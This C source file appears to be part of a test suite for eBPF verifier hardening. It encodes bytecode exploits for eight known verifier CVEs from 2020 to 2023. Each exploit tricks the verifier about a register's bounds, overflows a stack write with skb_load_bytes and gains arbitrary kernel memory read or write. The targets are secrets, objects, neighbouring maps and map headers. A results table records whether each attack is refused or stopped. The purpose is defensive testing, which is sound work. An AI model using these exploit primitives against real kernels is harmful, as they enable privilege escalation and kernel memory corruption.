/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/*
 * Defects by which a verifier believed a number to be what it was not.
 *
 * They all end alike: R8 is 0 for the verifier, and 1.  Of that becomes a length that is 8 for the verifier, and 16, for a
 * helper that writes to the stack; behind the eight bytes lies a pointer, which the verifier goes on believing.  Masks against
 * speculation, which programs of unprivileged users get for their own arithmetic on pointers, do not come into that.
 */
#include <unistd.h>
#include <bpf/bpf.h>

#include "../check.h"
#include "history.h"

#define MARK	0x0ddba11c0ffeeull

/* If the condition does not hold, the program ends here. */
#define put_unless(...)	put(__VA_ARGS__, MOV_K(0, 1), EXIT)

/* What R8 = 1 does --------------------------------------------------------------------------- */

/* R1: @address, and the own value's for the verifier.  It comes out of the packet. */
static void take_pointer(struct attempt *a, u64 address)
{
	static u8 packet[PACKET_BYTES];

	memcpy(packet, attack_packet, PACKET_BYTES);
	memcpy(packet + (attack_data - attack_packet) + 8, &address, 8);
	a->packet = packet;
	put(STX(BPF_DW, 10, 6, -8), ST(BPF_DW, 10, -16, 0));
	put(MOV_X(4, 8), ALU64_K(BPF_LSH, 4, 3), ALU64_K(BPF_ADD, 4, 8));
	put(MOV_X(1, 7), MOV_K(2, 0), MOVE(3, 10, -16), CALL(BPF_FUNC_skb_load_bytes));
	put(LDX(BPF_DW, 1, 10, -8));
}

static bool read_secret(struct attempt *a)
{
	take_pointer(a, prey("secret.at"));
	put(LDX(BPF_DW, 2, 1, 0), STX(BPF_DW, 6, 2, 0));
	attempt_run(a);
	return a->out[0] == prey("secret");
}

static bool overwrite_victim(struct attempt *a)
{
	u64 mark = prey("victim") + MARK;

	take_pointer(a, prey("victim.at"));
	put(LDDW(2, mark), STX(BPF_DW, 1, 2, 0));
	attempt_run(a);
	return prey("victim") == mark;
}

static bool overwrite_neighbour(struct attempt *a)
{
	u64 value[VALUE_WORDS];
	int map = attack_map(0, MARK), prog = attack_bystander(map);

	attack_value(map, value);
	take_pointer(a, value[1]);
	put(ST(BPF_DW, 1, 0, 7));
	attempt_run(a);
	attack_value(map, value);
	close(prog);
	close(map);
	return value[0] != MARK;
}

/* The header of the own map, which lies before its value. */
static bool overwrite_header(struct attempt *a)
{
	struct bpf_map_info info = { 0 };
	u32 len = sizeof(info);
	int prog = attack_bystander(a->own);

	attack_value(a->own, a->out);
	take_pointer(a, a->out[1] + prey("map.max_entries") - prey("array.value"));
	put(ST(BPF_W, 1, 0, 77));
	attempt_run(a);
	CHECK(!bpf_obj_get_info_by_fd(a->own, &info, &len), "nothing is known of a map");
	close(prog);
	return info.max_entries != 1;
}

/* Bounds --------------------------------------------------------------------------------------- */

/* 1 <= R1 <= 2^32 + 1: cut to 32 bits that is 1 <= R1 <= 1.  It is 2. */
static bool cve_2020_8835(struct attempt *a)
{
	history_feed(a, 0, 2);
	put(LDX(BPF_DW, 1, 6, FED(0)));
	put_unless(JMP_K(BPF_JGE, 1, 1, 2));
	put(LDDW(2, 0x100000001ull));
	put_unless(JMP_X(BPF_JLE, 1, 2, 2));
	put_unless(JMP32_K(BPF_JNE, 1, 5, 2));
	put(MOV_X(8, 1), ALU64_K(BPF_AND, 8, 2), ALU64_K(BPF_RSH, 8, 1));
	return read_secret(a);
}

/* 1 <= R1 <= 6 * 2^32 + 1, with a lower half that is not negative: OR took that for the bounds of the half.  It is 2. */
static bool cve_2020_27194(struct attempt *a)
{
	history_feed(a, 0, 2);
	put(LDX(BPF_DW, 1, 6, FED(0)));
	put_unless(JMP32_K(BPF_JSGE, 1, 0, 2));
	put_unless(JMP_K(BPF_JGE, 1, 1, 2));
	put(LDDW(2, 0x600000001ull));
	put_unless(JMP_X(BPF_JLE, 1, 2, 2));
	put(ALU64_K(BPF_OR, 1, 0), ALU32_X(BPF_MOV, 1, 1));
	put(MOV_X(8, 1), ALU64_K(BPF_AND, 8, 2), ALU64_K(BPF_RSH, 8, 1));
	return overwrite_victim(a);
}

/*
 * The lower half of R1 is 1, and 0 after the AND; its bounds stayed, from which the known bits made 1 <= it <= 0.  With a
 * number between 0 and 1 added, which is 0, that is "1".
 */
static bool cve_2021_3490(struct attempt *a)
{
	history_feed(a, 0, 0);
	put(LDX(BPF_DW, 1, 6, FED(0)), LDX(BPF_DW, 3, 6, FED(0)));
	put_unless(JMP32_K(BPF_JLE, 3, 1, 2));
	put(ALU64_K(BPF_LSH, 1, 32), ALU64_K(BPF_ADD, 1, 1), LDDW(2, 0x100000002ull), ALU64_X(BPF_AND, 1, 2));
	put(ALU64_X(BPF_ADD, 1, 3), ALU32_X(BPF_MOV, 1, 1));
	put(MOV_K(8, 1), ALU64_X(BPF_SUB, 8, 1));
	return overwrite_neighbour(a);
}

/* 1 <= R1, so 1 <= its lower half?  It is 2^32. */
static bool cve_2021_31440(struct attempt *a)
{
	history_feed(a, 0, 1ull << 32);
	put(LDX(BPF_DW, 1, 6, FED(0)));
	put_unless(JMP_K(BPF_JGE, 1, 1, 2));
	put_unless(JMP32_K(BPF_JLE, 1, 1, 2));
	put(ALU32_X(BPF_MOV, 1, 1), MOV_K(8, 1), ALU64_X(BPF_SUB, 8, 1));
	return overwrite_header(a);
}

/* What division was rewritten to ----------------------------------------------------------------- */

/* 2^32 modulo 0, in 32 bits, is 0; the upper half stayed. */
static bool cve_2021_3444(struct attempt *a)
{
	history_feed(a, 0, 1ull << 32);
	put(LDX(BPF_DW, 8, 6, FED(0)), MOV_K(2, 0), ALU32_X(BPF_MOD, 8, 2), ALU64_K(BPF_RSH, 8, 32));
	return read_secret(a);
}

/* Dividing by R2, in 32 bits, cut off the upper half of R2. */
static bool cve_2021_3600(struct attempt *a)
{
	put(MOV_K(1, 5), LDDW(2, 0x100000001ull), ALU32_X(BPF_DIV, 1, 2));
	put(ALU64_K(BPF_RSH, 2, 32), MOV_K(8, 1), ALU64_X(BPF_SUB, 8, 2));
	return overwrite_victim(a);
}

/* Pointers, paths ---------------------------------------------------------------------------------- */

/* A record that is larger than the ring is NULL, and so is NULL + 1? */
static bool cve_2022_23222(struct attempt *a)
{
	int ring = bpf_map_create(BPF_MAP_TYPE_RINGBUF, "moat_attack", 0, 0, 4096, NULL);
	bool works;

	put(LD_MAP(1, ring), MOV_K(2, 4096), MOV_K(3, 0), CALL(BPF_FUNC_ringbuf_reserve));
	put(MOVE(8, 0, 1), JMP_K(BPF_JEQ, 0, 0, 5));
	put(MOV_X(1, 0), MOV_K(2, 0), CALL(BPF_FUNC_ringbuf_discard), MOV_K(0, 1), EXIT);
	works = read_secret(a);
	close(ring);
	return works;
}

/*
 * R8 <= R5, and R5 is 0 on the path that is looked at first, 1 on the other.  That R8 matters was remembered, but not that R5
 * does: the second path looked like the first.  What stands between has the verifier keep a state where they meet.
 */
static bool cve_2023_2163(struct attempt *a)
{
	u32 i;

	history_feed(a, 0, 1);
	put(LDX(BPF_DW, 1, 6, FED(0)), LDX(BPF_DW, 8, 6, FED(0)));
	put(MOV_K(5, 1), JMP_K(BPF_JNE, 1, 0, 15), MOV_K(5, 0), JA(0), JA(0), JA(0), JA(0));
	for (i = 0; i < 10; i++)
		put(MOV_K(4, (s32)i));
	put(MOV_K(4, 77));
	put_unless(JMP_X(BPF_JLE, 8, 5, 2));
	return overwrite_neighbour(a);
}

#define FILTER	BPF_PROG_TYPE_SOCKET_FILTER

const struct history history_scalars[] = {
	{ "2020-8835", "32-bit bounds cut out of 64-bit ones", "reads a secret", NULL, FILTER, cve_2020_8835,
	  HISTORY_REFUSED, HISTORY_STOPPED, NULL },
	{ "2020-27194", "OR took 64-bit bounds for 32-bit ones", "overwrites an object", NULL, FILTER, cve_2020_27194,
	  HISTORY_REFUSED, HISTORY_STOPPED, NULL },
	{ "2021-3490", "AND left no bounds where a half was known", "overwrites a neighbour's map", NULL, FILTER, cve_2021_3490,
	  HISTORY_REFUSED, HISTORY_STOPPED, NULL },
	{ "2021-31440", "a 64-bit lower bound taken for the half", "overwrites a map's header", NULL, FILTER, cve_2021_31440,
	  HISTORY_REFUSED, HISTORY_STOPPED, NULL },
	{ "2021-3444", "modulo 0 left the upper half as it was", "reads a secret", NULL, FILTER, cve_2021_3444,
	  HISTORY_HARMLESS, HISTORY_HARMLESS, "the emitters divide by themselves" },
	{ "2021-3600", "division cut the divisor's upper half off", "overwrites an object", NULL, FILTER, cve_2021_3600,
	  HISTORY_HARMLESS, HISTORY_HARMLESS, "the emitters divide by themselves" },
	{ "2022-23222", "arithmetic on a pointer that may be NULL", "reads a secret", NULL, FILTER, cve_2022_23222,
	  HISTORY_REFUSED, HISTORY_STOPPED, NULL },
	{ "2023-2163", "a path taken for one that had been looked at", "overwrites a neighbour's map", "CAP_BPF", FILTER,
	  cve_2023_2163, HISTORY_REFUSED, HISTORY_STOPPED, NULL },
	{ NULL, NULL, NULL, NULL, 0, NULL, 0, 0, NULL },
};
